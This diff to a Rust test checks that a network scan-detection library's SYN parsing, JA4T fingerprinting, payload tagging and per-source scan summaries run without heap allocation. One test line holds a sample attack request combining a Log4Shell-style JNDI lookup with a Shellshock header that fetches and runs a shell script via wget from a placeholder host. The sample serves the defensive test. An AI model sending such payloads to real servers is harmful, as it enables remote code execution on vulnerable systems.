@@ -130,4 +130,46 @@ fn parse_and_fingerprint_paths_do_not_allocate() {
         }
     });
     assert_eq!(n, 0, "HTTP path allocated {n} times");
+
+    // A saved SYN (curl over loopback, IPv4): facts, option text and JA4T.
+    let syn: [u8; 60] = [
+        0x45, 0, 0, 0x3c, 0x26, 0xfd, 0x40, 0, 0x40, 6, 0x15, 0xbd, 127, 0, 0, 1, 127, 0, 0, 1,
+        0xa8, 0x86, 0x1f, 0x90, 0x4f, 0x48, 0xcb, 0x29, 0, 0, 0, 0, 0xa0, 0x02, 0xff, 0xd7, 0xfe,
+        0x30, 0, 0, 2, 4, 0xff, 0xd7, 4, 2, 8, 10, 0x85, 0x94, 0xa1, 0x8d, 0, 0, 0, 0, 1, 3, 3, 10,
+    ];
+    let n = allocations(|| {
+        let facts = spip::proto::syn::parse(&syn).expect("syn");
+        std::hint::black_box(facts.options.kinds_text());
+        #[cfg(feature = "ja4plus")]
+        std::hint::black_box(fingerprint::ja4t::ja4t(facts.window, &facts.options));
+    });
+    assert_eq!(n, 0, "SYN path allocated {n} times");
+    // Payload tags and the per-connection scan summary updates, once warm (the matcher built,
+    // the source's slot boxed).
+    use spip::scan::payload_tags::Tags;
+    use spip::scan::summary::{Summaries, SummaryConfig};
+    use std::time::{Duration, Instant};
+    let summaries = Summaries::new(
+        SummaryConfig {
+            max_sources: 1024,
+            interval: Duration::from_secs(60),
+            scanner_ports: 25,
+        },
+        Instant::now(),
+    );
+    let src: std::net::IpAddr = "192.0.2.1".parse().unwrap();
+    let attack = b"GET /${jndi:ldap://x/a} HTTP/1.1\r\nUser-Agent: () { :;}; wget x | sh\r\n\r\n";
+    std::hint::black_box(Tags::of(attack));
+    summaries.accepted(src, 1, None, Instant::now());
+    let n = allocations(|| {
+        std::hint::black_box(Tags::of(attack));
+        std::hint::black_box(Tags::of(&msg));
+        for port in 2..1000 {
+            let now = Instant::now();
+            summaries.accepted(src, port, Some("64240_2-4-8-1-3_1460_7"), now);
+            summaries.shed(src, port, now);
+            summaries.closed(src, 10, now);
+        }
+    });
+    assert_eq!(n, 0, "tags and summaries allocated {n} times");
 }
